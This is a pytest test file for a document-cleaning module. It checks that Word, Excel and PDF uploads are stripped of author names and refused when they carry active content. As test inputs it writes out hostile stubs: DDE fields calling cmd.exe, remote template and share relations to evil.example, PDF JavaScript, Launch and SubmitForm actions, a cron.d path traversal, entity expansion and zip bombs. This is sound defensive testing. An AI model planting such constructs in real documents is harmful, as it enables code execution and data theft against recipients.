"""Documents are looked through part by part: programs and hidden files are refused, writers' names go."""

import hashlib
import zipfile
from io import BytesIO

import openpyxl
import pytest
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from minori.documents.cleaning import FileRefused, clean
from minori.documents.examining import office
from minori.report_forms.edition import Accept
from tests.tenants.evidence import documents, pictures
from tests.tenants.evidence.documents import (
    WRITER,
    action,
    docx,
    parts_of,
    pdf,
    relation,
    relations,
    xlsx,
    zipped,
)

WORD, EXCEL = "wordprocessingml", "spreadsheetml"
PROGRAM = "プログラム|program"
INSIDE = "別のファイルが入って|other files inside"
KIND = "この種類のファイル|this kind"
BROKEN = "こわれて|damaged"


def refused(data: bytes, why: str) -> None:
    with pytest.raises(FileRefused, match=why):
        clean(data)


def test_a_word_document_is_kept_without_its_writers_name() -> None:
    kept = clean(docx(text="のべ640人が利用した"))
    assert WORD in kept.content_type
    assert (kept.width, kept.height, kept.preview) == (None, None, b"")
    parts = parts_of(kept.data)
    assert "のべ640人が利用した" in parts["word/document.xml"].decode()
    assert WRITER.encode() not in b"".join(parts.values())


def test_a_workbook_still_opens_with_its_numbers_and_without_its_writers_name() -> None:
    kept = clean(xlsx(A1="居場所", B1=640))
    assert EXCEL in kept.content_type
    book = openpyxl.load_workbook(BytesIO(kept.data))
    assert (book.active["A1"].value, book.active["B1"].value) == ("居場所", 640)
    assert WRITER.encode() not in b"".join(parts_of(kept.data).values())


def test_the_same_document_always_gives_the_same_bytes() -> None:
    for data in (docx(), xlsx(), pdf()):
        once, twice = (hashlib.sha256(clean(data).data).hexdigest() for _ in range(2))
        assert once == twice


def test_a_photo_inside_a_document_loses_its_place() -> None:
    photo = pictures.jpeg()
    kept = parts_of(clean(docx({"word/media/image1.jpeg": photo})).data)["word/media/image1.jpeg"]
    assert pictures.SECRET in photo
    assert pictures.SECRET not in kept
    assert kept.startswith(b"\xff\xd8")


@pytest.mark.parametrize(
    "data",
    [
        docx({"word/vbaProject.bin": b"macro"}),
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        docx({"word/activeX/activeX1.xml": "<x/>"}),
        docx(
            types='<Override PartName="/xl/macrosheets/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        ),
        docx(
            {
                "word/header1.xml": "<w:hdr><w:instrText>DD</w:instrText>"
                "<w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:hdr>"
            }
        ),
        docx(
            {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
    ],
    ids=["vba", "docm named docx", "activeX", "macro sheet", "DDE in pieces", "DDE link"],
)
def test_programs_in_documents_are_refused(data: bytes) -> None:
    refused(data, PROGRAM)


@pytest.mark.parametrize(
    "parts",
    [
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        {"word/media/image1.exe": b"MZ"},
        {"word/media/image1.png": b"MZ a program called png"},
        {"word/afchunk.mht": b"MIME-Version: 1.0"},
        {"word/embeddings/sheet.xlsx": docx({"word/embeddings/again.xlsx": xlsx()})},
    ],
    ids=["OLE", "exe", "exe called png", "web page", "a file in a file in a file"],
)
def test_files_inside_documents_are_refused(parts: dict[str, bytes]) -> None:
    refused(docx(parts), INSIDE)


def test_the_table_behind_a_chart_is_allowed_and_cleaned_too() -> None:
    kept = parts_of(clean(docx({"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()})).data)
    inner = parts_of(kept["word/embeddings/Microsoft_Excel_Sheet.xlsx"])
    assert WRITER.encode() not in b"".join(inner.values())


def test_what_would_be_fetched_when_it_is_opened_points_nowhere_and_links_stay() -> None:
    hostile = relations(
        relation("attachedTemplate", "https://evil.example/a.dotm"),
        relation("image", "\\\\evil.example\\share\\a.png"),
        relation("oleObject", "mhtml:https://evil.example/a!x"),
        relation("hyperlink", "file:///c:/windows/cmd.exe"),
        relation("hyperlink", "https://example.org/report"),
        relation("hyperlink", "mailto:info@example.org"),
    )
    kept = parts_of(clean(docx({"word/_rels/document.xml.rels": hostile})).data)[
        "word/_rels/document.xml.rels"
    ]
    assert b"evil.example" not in kept
    assert b"cmd.exe" not in kept
    assert b"https://example.org/report" in kept
    assert b"mailto:info@example.org" in kept
    assert kept.count(b"about:blank") == 4


def test_relationships_that_fetch_nothing_stay_as_they_are() -> None:
    plain = relations(relation("styles", "styles.xml", outside=False))
    kept = parts_of(clean(docx({"word/_rels/document.xml.rels": plain})).data)
    assert kept["word/_rels/document.xml.rels"].decode() == plain


BOMB = "込み入って|too complicated"


@pytest.mark.parametrize(
    "data",
    [
        docx({"word/huge.xml": b" " * (40 * 1024 * 1024)}),
        docx({f"word/part{number}.xml": "<x/>" for number in range(office.MOST_PARTS)}),
        docx({f"word/large{number}.xml": b" " * (9 * 1024 * 1024) for number in range(17)}),
    ],
    ids=["one part", "many parts", "many large parts"],
)
def test_documents_that_unpack_to_far_too_much_are_refused(data: bytes) -> None:
    assert len(data) < 2 * 1024 * 1024
    refused(data, BOMB)


def test_a_part_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(docx({"word/huge.xml": b" " * (40 * 1024 * 1024)}))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.rindex(mark)
        data[at + place : at + place + 4] = (100).to_bytes(4, "little")
    refused(bytes(data), BROKEN)


def encrypted() -> bytes:
    data = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(mark, start)) >= 0:
            data[at + place] |= 1
            start = at + 4
    return bytes(data)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (zipped({"readme.txt": "a zip"}), KIND),
        (zipped({"[Content_Types].xml": "<Types/>"}), KIND),
        (b"PK\x03\x04 nothing more", BROKEN),
        (docx()[:-40], BROKEN),
        (docx({"word/x.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), BROKEN),
        (docx({"word/y.xml": f'<!--{"a" * 5000}--><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), BROKEN),
        (docx({"word/_rels/a.rels": "<not xml"}), BROKEN),
        (docx({"../../etc/cron.d/x.xml": "<x/>"}), BROKEN),
        (docx() + b"behind", "ほかのもの|Something else"),
        (encrypted(), "保護|protected"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "古い形式|old kind"),
        (b"MZ\x90\0", PROGRAM),
    ],
    ids=[
        "zip",
        "empty types",
        "header only",
        "cut off",
        "entities",
        "entities far inside",
        "broken xml",
        "path",
        "tail",
        "password",
        "doc",
        "exe",
    ],
)
def test_what_is_no_document_is_refused_with_a_sentence(data: bytes, why: str) -> None:
    refused(data, why)


def test_a_pdf_behind_a_zip_is_no_document() -> None:
    refused(pdf() + docx(), "ほかのもの|Something else")


def test_a_pdf_is_kept_without_its_writers_name() -> None:
    kept = clean(pdf(pages=3))
    assert kept.content_type == "application/pdf"
    reader = PdfReader(BytesIO(kept.data))
    assert len(reader.pages) == 3
    assert not (reader.metadata or {}).get("/Author")
    assert WRITER.encode("utf-16-be") not in kept.data
    assert reader.xmp_metadata is None


def test_what_hangs_behind_a_pdf_does_not_come_along() -> None:
    kept = clean(pdf() + b"\n<script>alert(1)</script>")
    assert b"script" not in kept.data
    refused(pdf() + b"\n<script>alert(1)</script>\n%%EOF\n", BROKEN)


def names(**more: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in more.items()})


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (pdf(root={"/OpenAction": action("JavaScript", JS="app.alert(1)")}), PROGRAM),
        (pdf(root={"/OpenAction": action("Launch", F="cmd.exe")}), PROGRAM),
        (pdf(root={"/AA": names(WC=action("SubmitForm", F="https://evil.example"))}), PROGRAM),
        (pdf(root={"/AcroForm": names(XFA=TextStringObject("<xdp/>"))}), PROGRAM),
        (pdf(files=True), INSIDE),
        (pdf(secret="himitsu"), "保護|protected"),
        (b"%PDF-1.7\nnothing", BROKEN),
        (pdf()[:300], BROKEN),
        (b"%PDF-1.7\n%%EOF", BROKEN),
    ],
    ids=["JavaScript", "launch", "submit", "XFA", "files", "password", "header only", "cut off", "empty"],
)
def test_what_is_no_quiet_pdf_is_refused_with_a_sentence(data: bytes, why: str) -> None:
    refused(data, why)


def test_a_pdf_may_link_to_the_web_and_jump_to_a_page() -> None:
    quiet = pdf(root={"/OpenAction": action("URI", URI="https://example.org")})
    assert clean(quiet).content_type == "application/pdf"


def test_a_signed_pdf_is_kept_byte_for_byte() -> None:
    field = names(FT=NameObject("/Sig"), T=TextStringObject("署名"))
    signed = pdf(root={"/Signed": field})
    assert clean(signed).data == signed
    refused(signed + b"PK\x03\x04 something else", "ほかのもの|Something else")


@pytest.mark.parametrize("data", [docx(), xlsx(), pdf()], ids=["docx", "xlsx", "pdf"])
def test_a_form_that_takes_only_photos_says_so(data: bytes) -> None:
    with pytest.raises(FileRefused, match="JPEG"):
        clean(data, [Accept.PHOTO])


def test_zips_made_by_ordinary_programs_are_read() -> None:
    stored = BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as package:
        for name, content in parts_of(docx()).items():
            package.writestr(name, content)
    assert WORD in clean(stored.getvalue()).content_type
    assert documents.SVG not in clean(docx()).data
